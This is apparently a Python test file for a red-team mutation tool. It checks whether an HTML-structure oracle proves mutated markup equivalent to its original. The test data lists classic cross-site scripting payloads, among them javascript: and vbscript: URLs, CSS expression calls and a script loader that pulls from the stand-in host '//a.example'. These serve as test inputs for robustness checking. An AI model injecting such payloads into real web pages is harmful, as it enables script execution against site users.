"""What shows nothing when it is run is proved by its markup alone, and nothing that reads otherwise is."""

from __future__ import annotations

from random import Random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from overproof.redteam.base import Edited, mutated
from overproof.redteam.mutate.html import MUTATORS
from overproof.redteam.oracle.html_structure import same_markup

OF_OLD = [
    "<div style=\"width: expression(alert('xss'));\">",
    "<IMG SRC='vbscript:msgbox(2)'>",
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS',
    "<table background=\"javascript:alert('x')\">",
    '"><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(94)</handler>',
    "<b <script>alert(1)//</script>0</script></b>",
    '<img id=xss src="javascript:alert(string.fromcharcode(88,83))">',
    "with(document)getElementsByTagName('head')[0].appendChild(createElement('script')).src='//a.example'",
]
OTHER = [
    ("<div style='width: expression(alert(1))'>", "<div style='width: expression(alert(2))'>"),
    ("<div style='width: expression(alert(1))'>", "<div title='width: expression(alert(1))'>"),
    ("<div style='width: expression(alert(1))'>", "<p style='width: expression(alert(1))'>"),
    ("<div style='width: expression(alert(1))'>", "<!--<div style='width: expression(alert(1))'>-->"),
    ("<div style='width: expression(alert(1))'>", "<div data-style='width: expression(alert(1))'>"),
    ("<div style='width: expression(alert(1))'>", "<i><div style='width: expression(alert(1))' id=a></i>"),
    ("<div style='width: expression(alert(1))'>", "<textarea><div style='width: expression(alert(1))'>"),
    ("<img src='vbscript:a(1)'>", "<img src='vbscript:a(2)'>"),
    ("<img src='vbscript:a(1)'>", "<img src='http:a(1)'>"),
    ("<img src='vbscript:a(1)'><img src='vbscript:b(1)'>", "<img src='vbscript:b(1)'><img src='vbscript:a(1)'>"),
    ("<table background='javascript:a(1)'>", "<table background='javascript:b(1)'>"),
    ("<bgsound src=\"javascript:a('x')\">", '<bgsound src="javascript:a(`x`)">'),
    ("<bgsound src=\"javascript:a('x')\">", "<bgsound src=\"javascript:a('\\u{78}')\">"),
    ("<style>a{x:y}</style>", "<style>a{x:z}</style>"),
    ("'><xss x=1>", '"><xss x=1>'),
    ("with(a)b(1)", "with(a)c(1)"),
    ("with(a)b(1)", "with(a)//b(1)"),
]


@pytest.mark.parametrize(("original", "edited"), OTHER)
def test_other_markup_is_not_proved(original: str, edited: str) -> None:
    proof = same_markup(original, original)
    assert proof is not None and proof.meaning == "proved"
    assert same_markup(original, edited) is None


@pytest.mark.parametrize("text", ["", "shoes", "</b>", "a title", "onclick", "alert(", "\ud800", "b < 'd'", "(1)"])
def test_what_breaks_out_of_nothing_is_not_proved(text: str) -> None:
    assert same_markup(text, text) is None


@pytest.mark.parametrize("text", OF_OLD)
def test_most_chains_of_edits_are_proved(text: str) -> None:
    chains = []
    for seed in range(30):
        random, edited = Random(seed), Edited(text)
        for _ in range(2):
            edited = mutated(edited, MUTATORS, random) or edited
        chains.append(edited.text)
    proved = [same_markup(text, edited) for edited in chains]
    assert sum(proof is not None for proof in proved) >= 24


@given(st.sampled_from(OF_OLD), st.integers(0, 10**6), st.sampled_from(["", "q", "5"]))
def test_a_letter_that_is_another_or_gone_is_never_proved(text: str, place: int, new: str) -> None:
    letters = [index for index, letter in enumerate(text) if letter.isalnum()]
    at = letters[place % len(letters)]
    # `LI` shows what stands in it; nothing else of these texts is shown
    if text[at] != new and not text.endswith(text[at:]) and text[at - 1 : at] != ">":
        assert same_markup(text, text[:at] + new + text[at + 1 :]) is None
